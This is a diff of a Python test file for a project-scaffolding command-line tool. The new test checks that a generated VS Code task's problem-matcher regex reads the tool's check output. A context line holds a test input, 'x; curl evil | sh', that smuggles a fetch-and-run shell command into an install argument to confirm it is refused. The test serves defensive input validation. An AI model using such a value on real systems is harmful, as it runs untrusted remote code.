@@ -83,3 +83,20 @@ def test_the_ci_and_readme_install_what_init_is_told_to(tmp_path: Path) -> None:
 def test_an_install_requirement_that_could_run_a_command_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["init", str(tmp_path), "--name", "Fernley", "--area", "Fernley", "--install", "x; curl evil | sh"]) == 2
     assert "--install must be one pip requirement" in capsys.readouterr().err
+
+
+def test_the_editor_task_reads_every_finding_check_prints_as_a_problem(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import json
+    import re
+
+    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=True, today=TODAY)
+    pattern = json.loads((tmp_path / ".vscode/tasks.json").read_text(encoding="utf-8"))["tasks"][0]["problemMatcher"]["pattern"]
+    monkeypatch.chdir(tmp_path)  # the task runs in the repository's folder
+    _, findings, _ = check_project(Path("strategy_src"), TODAY)
+    main(["check", "strategy_src"])
+
+    matched = [re.match(pattern["regexp"], line) for line in capsys.readouterr().out.splitlines()]
+    problems = [(m.group(pattern["file"]), int(m.group(pattern["line"])), m.group(pattern["code"])) for m in matched if m]
+    assert problems == [(f.path, f.line, f.code) for f in findings]
